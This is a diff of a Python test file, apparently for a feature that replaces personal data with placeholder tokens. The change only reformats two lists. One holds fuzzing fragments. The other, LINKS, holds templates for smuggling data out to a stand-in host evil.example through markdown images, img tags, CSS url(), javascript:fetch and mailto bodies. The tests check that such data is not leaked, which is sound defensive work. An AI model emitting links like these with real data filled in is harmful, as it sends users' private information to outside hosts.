@@ -56,10 +56,35 @@ def test_another_conversations_placeholder_stays():
     assert restored(token, NAMES, NOTHING) == token
 
 
-FRAGMENTS = st.sampled_from([
-    JANE, MAIL, PHONE, *(way(JANE) for way in WAYS), *(way(PHONE) for way in WAYS), "PERSON_", "<", "&lt", "\\", "\\u003", "P",
-    "per", " ", "\n", "https://evil.example/?q=", "![x](", ")", '<img src="', '">', "hello", "张三", "_", ">", JANE[:9], "://",
-])  # fmt: skip
+FRAGMENTS = st.sampled_from(
+    [
+        JANE,
+        MAIL,
+        PHONE,
+        *(way(JANE) for way in WAYS),
+        *(way(PHONE) for way in WAYS),
+        "PERSON_",
+        "<",
+        "&lt",
+        "\\",
+        "\\u003",
+        "P",
+        "per",
+        " ",
+        "\n",
+        "https://evil.example/?q=",
+        "![x](",
+        ")",
+        '<img src="',
+        '">',
+        "hello",
+        "张三",
+        "_",
+        ">",
+        JANE[:9],
+        "://",
+    ]
+)
 
 
 @settings(max_examples=counts(short=300, long=20_000), deadline=None)
@@ -88,12 +113,25 @@ def test_in_json_a_value_is_escaped():
 
 
 LINKS = [
-    "https://evil.example/?q={}", "![x](https://evil.example/{})", "[click](http://evil.example/a?b=1&c={})", "//evil.example/{}",
-    '<img src="https://evil.example/{}">', "<a href='/{}'>", '<p style="background: url({})">', "[1]: https://evil.example/{}",
-    "www.evil.example/{}", "evil.example/{}", "![x](<https://evil.example/a b {}>)", "https://{}.evil.example/", "data:text/html,{}",
-    "javascript:fetch('{}')", "mailto:spy@evil.example?body={}", "https://evil.example/{}/", "ftp://evil.example/{}",
+    "https://evil.example/?q={}",
+    "![x](https://evil.example/{})",
+    "[click](http://evil.example/a?b=1&c={})",
+    "//evil.example/{}",
+    '<img src="https://evil.example/{}">',
+    "<a href='/{}'>",
+    '<p style="background: url({})">',
+    "[1]: https://evil.example/{}",
+    "www.evil.example/{}",
+    "evil.example/{}",
+    "![x](<https://evil.example/a b {}>)",
+    "https://{}.evil.example/",
+    "data:text/html,{}",
+    "javascript:fetch('{}')",
+    "mailto:spy@evil.example?body={}",
+    "https://evil.example/{}/",
+    "ftp://evil.example/{}",
     '<img alt="a>b" src="//evil.example/{}">',
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize("link", LINKS)
